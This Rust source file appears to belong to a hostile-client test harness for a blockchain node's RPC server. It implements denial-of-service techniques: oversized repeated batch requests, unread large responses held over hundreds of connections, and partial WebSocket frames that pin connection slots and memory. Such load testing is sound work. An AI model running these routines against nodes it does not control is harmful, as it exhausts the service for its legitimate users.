//! Clients that request large responses without reading them, or that send a part of a message.

use std::{thread, time::Duration};

use serde_json::{Value, json};
use tungstenite::Message;

use crate::hostile::{Target, at_once, post, request};

/// Time for which a response stays unread before the client opens another connection.
const MOMENT: Duration = Duration::from_secs(1);

/// Default limit of calls in a batch.
const BATCH: usize = 1_000;

/// Length of a WebSocket message just below the limit of 256 KiB, in bytes.
const MESSAGE: usize = 255 << 10;

/// Returns requests with large responses. The node makes some responses as a whole, and sends others in chunks.
pub(crate) fn large(target: &Target<'_>) -> Vec<(&'static str, Value)> {
    vec![
        ("rpc.discover", json!([])),
        ("GetTransaction", json!([target.shouted])),
        ("GetSmartContractState", json!([target.hoard.to_string()])),
        ("GetTxnBodiesForTxBlockEx", json!([target.crowd, "0"])),
        ("eth_getBlockByNumber", json!([hexadecimal(&target.crowd), true])),
        ("silica_traceTransaction", json!([target.shouted])),
    ]
}

fn hexadecimal(number: &str) -> String {
    format!("{:#x}", number.parse::<u64>().expect("it is a number"))
}

/// Returns batches with large responses. Each batch repeats one call.
pub(crate) fn large_batches(target: &Target<'_>) -> Vec<String> {
    let latest = ("GetLatestTxBlock", json!([]));
    large(target).into_iter().chain([latest]).map(|(method, params)| batch(&request(method, &params))).collect()
}

fn batch(call: &str) -> String {
    format!("[{}]", vec![call; BATCH].join(","))
}

/// Sends single calls over HTTP and WebSocket.
pub(crate) fn answers(target: &Target<'_>) {
    let calls: Vec<String> = large(target).iter().map(|(method, params)| request(method, params)).collect();
    at_once(200, |number| over_either(target, number, &calls));
}

/// Sends batches over HTTP.
pub(crate) fn batches(target: &Target<'_>) {
    let batches = large_batches(target);
    at_once(40, |number| over_either(target, number * 2, &batches));
}

/// Sends batches over WebSocket.
pub(crate) fn batches_over_websocket(target: &Target<'_>) {
    let batches = large_batches(target);
    at_once(20, |number| over_either(target, number * 2 + 1, &batches));
}

/// Requests responses slightly below the size that needs a part of the memory budget, over almost all connection slots.
pub(crate) fn small_answers(target: &Target<'_>) {
    let call = request("GetLatestTxBlock", &json!([]));
    let answer = target.node.post(&call).body.len();
    let body = format!("[{}]", vec![call.as_str(); (60 << 10) / answer].join(","));
    let mut held = Vec::new();
    while !target.is_over() {
        let stream = target.connect_and_send(&post(body.len(), &body));
        held.extend(stream);
        if held.len() >= 880 {
            thread::sleep(MOMENT);
            held.clear();
        }
    }
}

/// Sends the bodies in turn: over HTTP for an even `number`, and over WebSocket for an odd `number`.
fn over_either(target: &Target<'_>, number: usize, bodies: &[String]) {
    for body in bodies.iter().cycle().skip(number / 2).take_while(|_| !target.is_over()) {
        if number.is_multiple_of(2) {
            let stream = target.connect_and_send(&post(body.len(), body));
            thread::sleep(MOMENT);
            drop(stream);
        } else if let Some(mut subscriber) = target.subscriber() {
            drop(subscriber.send(Message::text(body.as_str())));
            thread::sleep(MOMENT * 3);
        }
    }
}

/// Sends parts of messages over almost all WebSocket connections that the node permits.
pub(crate) fn half_messages(target: &Target<'_>) {
    let half = half_message();
    let mut held = Vec::new();
    while !target.is_over() {
        if held.len() >= 440 {
            thread::sleep(MOMENT);
            held.drain(..40);
        }
        let Some(mut subscriber) = target.subscriber() else { continue };
        drop(std::io::Write::write_all(subscriber.get_mut(), &half));
        held.push(subscriber);
    }
}

/// Returns the start of a text message: the head of a frame, and all but the last ten bytes of the content.
pub(crate) fn half_message() -> Vec<u8> {
    let length = u64::try_from(MESSAGE).expect("it is short").to_be_bytes();
    [&[0x81, 0xff][..], &length, &[0; 4], &vec![b' '; MESSAGE - 10]].concat()
}
